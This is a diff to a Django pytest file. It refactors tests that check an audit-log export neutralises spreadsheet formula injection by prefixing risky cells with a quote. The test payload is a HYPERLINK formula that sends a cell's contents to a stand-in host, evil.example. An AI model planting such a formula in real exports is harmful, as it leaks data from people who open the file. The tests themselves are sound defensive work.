@@ -7,24 +7,10 @@ import io
 import pytest
 from django.urls import reverse
 
-from dashboard.models import AuditEntry
+from tests.factories import AuditEntryFactory
 
 FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
 PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"Open")'
-
-
-def entry(account, **changes) -> AuditEntry:
-    values = {
-        "username": "staff",
-        "account": account,
-        "account_nickname": account.nickname,
-        "action": "reject",
-        "target": "Webcam received booking 7 with Client",
-        "outcome": "done",
-        "inputs": {"reason": "Busy"},
-        "message": "Rejected.",
-    }
-    return AuditEntry.objects.create(**{**values, **changes})
 
 
 def exported(client, account) -> dict[str, str]:
@@ -37,7 +23,7 @@ def exported(client, account) -> dict[str, str]:
 @pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
 @pytest.mark.parametrize("column", ["message", "target", "username", "account_nickname"])
 def test_a_cell_starting_like_a_formula_is_exported_as_text(client, owner, account, start, column):
-    entry(account, **{column: f"{start}{PAYLOAD}"})
+    AuditEntryFactory(account=account, **{column: f"{start}{PAYLOAD}"})
     client.force_login(owner)
     assert exported(client, account)[column] == f"'{start}{PAYLOAD}"
 
@@ -45,12 +31,12 @@ def test_a_cell_starting_like_a_formula_is_exported_as_text(client, owner, accou
 def test_the_inputs_column_is_guarded_like_the_others(client, owner, account):
     # Written "name=value; ...", it starts with a name of ours, never "=": unless a name is
     # empty, which the guard must then catch like any other cell.
-    entry(account, inputs={"": PAYLOAD})
+    AuditEntryFactory(account=account, inputs={"": PAYLOAD})
     client.force_login(owner)
     assert exported(client, account)["inputs"] == f"'={PAYLOAD}"
 
 
 def test_an_ordinary_cell_is_exported_as_it_is(client, owner, account):
-    entry(account, message="Rejected: not available = busy")
+    AuditEntryFactory(account=account, message="Rejected: not available = busy")
     client.force_login(owner)
     assert exported(client, account)["message"] == "Rejected: not available = busy"
